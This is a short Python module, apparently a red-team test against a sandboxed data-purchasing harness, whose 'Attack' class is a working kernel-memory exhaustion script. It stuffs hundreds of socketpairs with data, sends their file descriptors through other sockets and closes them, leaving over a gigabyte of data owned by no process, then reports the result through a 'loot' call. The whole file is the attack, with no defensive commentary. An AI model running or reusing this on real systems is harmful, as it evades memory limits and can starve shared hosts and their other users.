"""Sends sockets through themselves, full of data, and closes them: they belong to no process any more."""

import socket
import time

from aim import MIB, loot

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        sent, data = 0, bytes(100_000)
        anchors = []
        for _ in range(900):
            ours, theirs = socket.socketpair()
            anchor = socket.socketpair()
            anchors.append(anchor)
            for end in (ours, theirs):
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * MIB)
                end.setblocking(False)
                try:
                    while True:
                        sent += end.send(data)
                except OSError:
                    continue
            socket.send_fds(anchor[0], [b"x"], [ours.fileno(), theirs.fileno()])
            ours.close()
            theirs.close()
            if sent > 1400 * MIB or len(anchors) > 450:
                break
        time.sleep(1.2)
        if sent > 1000 * MIB:
            loot(f"{sent // MIB} MiB in flight")
